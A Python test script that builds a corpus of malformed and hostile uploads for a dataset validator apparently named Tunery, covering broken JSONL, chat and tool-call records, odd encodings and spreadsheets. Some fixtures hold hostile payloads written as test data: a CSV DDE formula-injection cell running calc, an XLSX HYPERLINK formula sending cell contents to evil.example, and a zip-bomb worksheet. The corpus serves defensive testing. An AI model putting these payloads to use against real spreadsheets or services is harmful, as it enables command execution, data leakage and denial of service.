"""Writes the bad-input corpus next to this file: `python tests/datasets/corpus/make_corpus.py`.

Each file is small and breaks one rule; `expected.json` says how Tunery must answer it (a 4xx
naming the param, or an `error` status naming the line). The 50 MB line, the oversize upload and
the hostile filenames are made at test time instead (tests/datasets/test_corpus.py).
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import zipfile
from collections.abc import Mapping
from pathlib import Path

HERE = Path(__file__).parent
GOOD = {"prompt": "Is this spam? Win a prize now ->", "completion": " yes"}
GOOD_CHAT = {
    "messages": [
        {"role": "system", "content": "You classify messages."},
        {"role": "user", "content": "Win a prize now"},
        {"role": "assistant", "content": "spam"},
    ]
}


def line(obj: object) -> str:
    return json.dumps(obj) + "\n"


def good(n: int) -> str:
    return "".join(line({**GOOD, "prompt": f"{GOOD['prompt']} {i}"}) for i in range(n))


def chat(*messages: Mapping[str, object]) -> str:
    return line({"messages": list(messages)})


USER = {"role": "user", "content": "hello"}
ASSISTANT = {"role": "assistant", "content": "hi"}
WEATHER_TOOL = {
    "type": "function",
    "function": {
        "name": "weather",
        "description": "Today's weather in a city",
        "parameters": {"type": "object", "properties": {"city": {"type": "string"}}},
    },
}


def tool_chat(
    *,
    arguments: object = '{"city": "Paris"}',
    tool_calls: object = None,
    tools: object = None,
    tool_call_id: str = "call_1",
    name: str = "weather",
) -> str:
    """A tool-call conversation, well formed unless one part is given broken."""
    calls = tool_calls
    if calls is None:
        function = {"name": name, "arguments": arguments}
        calls = [{"id": "call_1", "type": "function", "function": function}]
    return line(
        {
            "messages": [
                {"role": "user", "content": "Weather in Paris?"},
                {"role": "assistant", "content": None, "tool_calls": calls},
                {"role": "tool", "tool_call_id": tool_call_id, "content": "sunny, 21 C"},
                {"role": "assistant", "content": "Sunny and 21 C."},
            ],
            "tools": [WEATHER_TOOL] if tools is None else tools,
        }
    )


def xlsx(sheet_xml: bytes, *, compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A minimal XLSX package around one worksheet."""
    parts = {
        "[Content_Types].xml": (
            b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.'
            b'org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
            b'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
            b'"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
            b'"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            b'officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
            b'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            b'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.'
            b'org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" '
            b'r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
            b'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            b'Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": sheet_xml,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress, compresslevel=9) as archive:
        for name, data in parts.items():
            # A fixed timestamp keeps the output byte-identical from run to run.
            info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            archive.writestr(info, data, compress_type=compress, compresslevel=9)
    return out.getvalue()


SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = b"</sheetData></worksheet>"


def formulas_sheet() -> bytes:
    rows = [
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>prompt</t></is></c>'
        b'<c r="B1" t="inlineStr"><is><t>completion</t></is></c></row>',
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>two plus two</t></is></c>'
        b'<c r="B2"><f>HYPERLINK("http://evil.example/"&amp;A2,"4")</f><v>4</v></c></row>',
        b'<row r="3"><c r="A3" t="inlineStr"><is><t>sum</t></is></c>'
        b'<c r="B3"><f>SUM(1,2)</f><v>3</v></c></row>',
    ]
    return SHEET_HEAD + b"".join(rows) + SHEET_TAIL


def zip_bomb_sheet() -> bytes:
    # One 100 MB cell: deflate shrinks a run of one byte about 1000-fold, to ~100 KB.
    cell = b'<row><c t="inlineStr"><is><t>' + b"A" * (100 * 2**20) + b"</t></is></c></row>"
    return SHEET_HEAD + cell + SHEET_TAIL


def cmd_csv() -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["prompt", "completion"])
    writer.writerow(["open calc", "=cmd|' /C calc'!A0"])
    writer.writerow(["=1+1", "+SUM(A1:A2)"])
    writer.writerow(["@import", "-2+3"])
    return out.getvalue()


TEXT_FILES: dict[str, str] = {
    "invalid_json_line7.jsonl": good(6) + '{"prompt": "oops", "completion": " no"\n' + good(3),
    "bom.jsonl": "\ufeff" + good(3),
    "blank_lines_only.jsonl": "\n\n\n\n",
    "blank_line_inside.jsonl": good(2) + "\n" + good(2),
    "wrong_keys.jsonl": line({"question": "2+2?", "answer": "4"}) * 3,
    "extra_key.jsonl": good(1) + line({**GOOD, "label": "spam"}) + good(1),
    "missing_completion.jsonl": good(3) + line({"prompt": "no completion here"}),
    "number_prompt.jsonl": good(1) + line({"prompt": 42, "completion": " yes"}),
    "number_completion.jsonl": line({"prompt": "How many?", "completion": 3}) + good(2),
    "empty_completion.jsonl": good(2) + line({"prompt": "say nothing", "completion": ""}),
    "array_line.jsonl": good(1) + line(["prompt", "completion"]) + good(1),
    "string_line.jsonl": good(2) + line("just a string"),
    "object_prompt.jsonl": good(4) + line({"prompt": {"text": "hi"}, "completion": " x"}),
    "nan_value.jsonl": good(1) + '{"prompt": NaN, "completion": " x"}\n',
    "trailing_garbage.jsonl": good(1) + json.dumps(GOOD) + " trailing\n",
    "truncated_last_line.jsonl": good(3) + '{"prompt": "cut off in the mid',
    "lone_surrogate.jsonl": good(2) + '{"prompt": "bad \\ud800 escape", "completion": " x"}\n',
    "chat_no_assistant.jsonl": chat(USER, ASSISTANT)
    + chat({"role": "system", "content": "s"}, USER),
    "chat_unknown_role.jsonl": chat({"role": "bot", "content": "hi"}, ASSISTANT),
    "chat_missing_content.jsonl": chat(USER, ASSISTANT) + chat(USER, {"role": "assistant"}),
    "chat_bad_weight.jsonl": chat(USER, {**ASSISTANT, "weight": 2}),
    "chat_weight_on_user.jsonl": chat({**USER, "weight": 1}, ASSISTANT),
    "chat_messages_not_array.jsonl": line({"messages": "hello"}),
    "chat_number_content.jsonl": chat(USER, {"role": "assistant", "content": 7}),
    "mixed_formats.jsonl": good(2) + line(GOOD_CHAT),
    # Tool-call data: each file breaks one rule of OpenAI's format on its last line.
    "chat_tool_arguments_not_json.jsonl": tool_chat() + tool_chat(arguments="{city: Paris}"),
    "chat_tool_arguments_object.jsonl": tool_chat() + tool_chat(arguments={"city": "Paris"}),
    "chat_tool_calls_string.jsonl": tool_chat() + tool_chat(tool_calls="weather(Paris)"),
    "chat_tool_call_no_function.jsonl": tool_chat()
    + tool_chat(tool_calls=[{"id": "call_1", "type": "function"}]),
    "chat_tools_not_list.jsonl": tool_chat() + tool_chat(tools={"weather": WEATHER_TOOL}),
    "chat_tool_message_unmatched.jsonl": tool_chat() + tool_chat(tool_call_id="call_9"),
    "chat_tool_undefined_function.jsonl": tool_chat() + tool_chat(name="forecast"),
    "chat_image_part.jsonl": chat(
        {
            "role": "user",
            "content": [
                {"type": "text", "text": "What is this?"},
                {"type": "image_url", "image_url": {"url": "https://example.com/a.png"}},
            ],
        },
        ASSISTANT,
    ),
    "duplicate_key.jsonl": good(2) + '{"prompt": "a", "completion": " b", "prompt": "c"}\n',
    "chat_duplicate_key.jsonl": chat(USER, ASSISTANT)
    + '{"messages": [{"role": "user", "content": "a", "role": "assistant"}]}\n',
    "cmd_cells.csv": cmd_csv(),
}

BINARY_FILES: dict[str, bytes] = {
    "utf16.jsonl": good(3).encode("utf-16"),  # with a BOM
    "utf16le_no_bom.jsonl": good(3).encode("utf-16-le"),
    "invalid_utf8.jsonl": good(4).encode() + b'{"prompt": "caf\xe9", "completion": " x"}\n',
    "gzipped.jsonl": gzip.compress(good(3).encode(), mtime=0),
    "formulas.xlsx": xlsx(formulas_sheet()),
    "zip_bomb.xlsx": xlsx(zip_bomb_sheet()),
}


def main() -> None:
    for name, text in TEXT_FILES.items():
        (HERE / name).write_text(text, encoding="utf-8", newline="")
    for name, data in BINARY_FILES.items():
        (HERE / name).write_bytes(data)
    (HERE / "empty.jsonl").write_bytes(b"")


if __name__ == "__main__":
    main()
